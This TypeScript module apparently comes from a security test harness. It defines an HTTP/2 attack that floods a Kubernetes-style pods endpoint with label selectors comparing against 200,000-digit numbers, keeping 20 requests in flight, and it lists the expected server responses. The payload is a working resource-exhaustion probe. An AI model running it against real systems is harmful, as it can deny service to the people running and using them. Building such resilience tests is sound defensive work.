// Label selectors that compare with numbers of 200,000 digits.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'hostile review 6',
  does: 'asks with numbers of 200,000 digits in label selectors',
  who: ['known', 'unknown'],
  answers: ['200', '400', '401', '403', '414', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) => {
    const block = head(target, 'GET', `/api/v1/pods?labelSelector=a%3E${'9'.repeat(200_000)}`)
    return attackHttp2(target, signal, {}, (connection) => closedLoop(connection, 20, request(block)))
  },
}
